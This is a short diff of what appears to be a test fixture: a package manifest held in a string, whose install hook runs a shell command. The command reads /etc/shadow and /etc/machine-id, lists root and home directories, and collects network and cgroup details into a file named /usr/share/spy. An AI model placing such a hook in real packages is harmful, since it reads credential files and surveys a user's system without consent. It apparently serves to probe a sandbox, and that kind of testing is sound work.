@@ -65,7 +65,7 @@ run = ["{tool}", "/usr/share/spy"]
 args = ["-c", "echo 1.0.0"]
 [install]
 after = ["sh", "-c", '''
-(id -u; cat /etc/shadow /etc/machine-id 2>&1; ls /root /home /work 2>&1
+(id -u; cat /etc/shadow /etc/machine-id 2>&1; ls /root /home 2>&1
  cat /proc/net/dev | tail -n +3 | cut -d: -f1 | tr -d ' '; cat /proc/net/route | tail -n +2
  ls /sys/fs/cgroup 2>&1; true) >/usr/share/spy''']
 """,
